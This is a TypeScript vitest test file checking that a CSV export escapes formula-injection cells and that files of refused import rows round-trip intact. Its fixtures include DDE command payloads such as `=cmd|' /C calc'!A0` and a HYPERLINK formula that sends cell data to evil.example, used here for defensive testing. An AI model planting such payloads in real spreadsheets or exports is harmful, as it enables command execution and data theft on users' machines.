import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { cellText, csvCell } from '#clients/imports/src/csv-cells.ts';
import { refusedFile } from '#clients/imports/src/refused-rows.ts';
import { readLeadFile } from '#clients/studio/src/leads/lead-file.ts';
import { fileOf, readAll } from '#test/clients/imports/files.ts';

const starts = ['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠'];
const attacks = [
  ...starts.map((start) => `${start}cmd|' /C calc'!A0`),
  ...starts.map((start) => `${start}1`).filter((cell) => cell !== '+1'),
  '=HYPERLINK("http://evil.example?x="&A1,"Ada")',
  "'=1+1",
  "''@x",
  '+49-30-901820',
  '+1+cmd',
  '-5',
];
/** For a spreadsheet that expects another delimiter. */
const hidden = ['Ada;=1+1', 'Ada,@x', 'Ada\t-1', 'two\n=1+1', ";;'=1", 'a;;=b;+c'];
const harmless = [
  '',
  'Ada',
  'a=1',
  "O'Neill",
  "'tis",
  '+4930901820',
  '+12025550101',
  'a,b',
  'say "x"',
  'two\nlines',
  'a;b',
];

describe('a cell of a CSV file', () => {
  it.each(attacks)('is no formula: %j', (cell) => {
    expect(csvCell(cell)).toMatch(/^"'/);
  });

  it.each(hidden)('hides no formula behind another delimiter: %j', (cell) => {
    expect(csvCell(cell)).not.toMatch(/[,;\t\n][=@+-]/);
  });

  it.each([...attacks, ...hidden, ...harmless])('is read as it was: %j', (cell) => {
    const [[read]] = parse(csvCell(cell) || '""', { relax_quotes: false }) as [[string]];
    expect(cellText(read)).toBe(cell);
  });

  it('keeps phone numbers as they are, for people and other programs', () => {
    expect(csvCell('+4930901820')).toBe('+4930901820');
  });
});

describe('the file of refused rows', () => {
  // Cells are trimmed, as in every import.
  const cells = [...attacks, ...hidden, ...harmless].map((cell) => cell.trim());
  const heading = ['phone_number', '=HYPERLINK("x")', 'note'];
  const rows = cells.map((note, index) => ({
    line: index + 2,
    cells: [index % 2 === 0 ? '+4930901820' : '030 901820', '=1+1', note],
    reason: '=It was refused.',
  }));

  it('comes back as it was after a correction, once and ten times', async () => {
    let file = { heading, rows };
    for (let round = 0; round < 10; round += 1) {
      const text = refusedFile(file.heading, file.rows);
      const lines = parse(text, { trim: true });
      for (const cell of lines.flat()) expect(cell).not.toMatch(/(?:^|[,;\t\n])[=\-@＝＋－＠]|^\+(?!\d+$)/);
      const read = await readLeadFile(fileOf(text), 'leads.csv');
      const withReason = read.rows.map((row) => ({ ...row, reason: '=It was refused.' }));
      file = { heading: read.heading, rows: withReason };
      expect(read.heading).toEqual([...heading, 'refused_line', 'refused_because']);
      expect(read.rows.map((row) => row.cells.slice(0, 3))).toEqual(rows.map((row) => row.cells));
    }
  });

  it('gives the numbers and variables of the first file to the next import', async () => {
    const { leads } = await readAll(refusedFile(heading, rows), { country: 'DE' });
    expect(leads[0]).toEqual({
      phoneNumber: '+4930901820',
      secondaryNumbers: [],
      variables: { '=HYPERLINK("x")': '=1+1', note: cells[0] },
    });
  });

  it('keeps cells that have no heading, and is refused for them again', async () => {
    const text = refusedFile(['phone_number'], [{ line: 7, cells: ['+4930901820', 'more'], reason: 'No.' }]);
    expect(text).toBe('phone_number,refused_line,refused_because\n+4930901820,7,No.,more\n');
    expect((await readAll(text)).refused).toEqual([[2, 'The row has more cells than the heading.']]);
  });
});
